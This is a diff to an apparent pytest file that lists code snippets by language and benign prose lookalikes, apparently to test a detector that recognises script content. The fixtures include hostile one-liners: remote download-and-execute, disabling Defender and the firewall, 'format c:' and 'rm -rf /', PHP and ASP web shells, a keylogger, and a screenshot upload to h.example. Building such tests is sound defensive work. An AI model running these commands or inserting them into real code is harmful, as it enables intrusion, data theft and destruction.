@@ -31,25 +31,29 @@ CODE = {
         "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
-        "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n"),
+        "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n",
+        "&(ls Alias:/ie?) 'calc'\n"),
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
         "taskkill /f /im a.exe\n", "copy /b a+b c & c\n",
         ",;,cmd.exe,;,/c,;,start;calc\n", "@%comspec:~-7,1%cho off\n", "wsl -e bash -c id\n", "((cmd /c calc))\n",
-        "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n"),
+        "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n",
+        "icacls c:\\x /grant everyone:f\n", "sc config wuauserv start= disabled\n", "netsh advfirewall set allprofiles state off\n"),
     "Python code": (
         "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
         "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
-        "getattr(__builtins__,'ev'+'al')(x)\n"),
+        "getattr(__builtins__,'ev'+'al')(x)\n",
+        "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n", "import pip\npip.main(['install', 'a'])\n"),
     "JavaScript code": (
         "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
         "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n"),
     "Unix code": (
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
         "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
-        "busybox wget http://h.example/a -O-|ash\n"),
-    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n"),
+        "busybox wget http://h.example/a -O-|ash\n",
+        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
+    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
     "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
     "PHP code": ("<?=`$_GET[0]`?>\n",),
     "server page": ("<%eval request(\"c\")%>", "<% eval(request(\"c\")) %>"),
@@ -65,6 +69,8 @@ def test_code_is_known_by_its_statements(what: str, name: str) -> None:
 
 @pytest.mark.parametrize("text", [
     "Format C: see below\nIf exist any doubts, call us.\nNet user growth was 3 %.\nFor all in (a) and (b)\n", "Import goods\nimport time\nFrom time to time\n",
+    "From Osaka import sugar\nfrom the office import (duty) forms\nWhile waiting; do not call. For all in the room; do the check.\n",
+    "Trap 'em all\nThe netsh tool; SC configurations; F1:: help\n",
     "Set-top boxes, Get-together on Friday; New-Process of booking is Start-Up.\n", "End with a summary\nClass A:\nfunction room\ndef. of terms:\n",
     "Run 5 km, swim\nCall Anna\nSend, please, the list.\n", "Chmod 755 is explained below.\nSource: (annual report)\n", "Add-Type and New-Item are commands.\n",
     "Dear all,\nwe copy /and/ paste.\nCD /DVD\nGoto page 3.\nEcho of the past > future\n", "$5,000 = NT$160,000\n$ = dollar\n| a | b |\n", "1.5 2.5\n3.5 4.5\n",
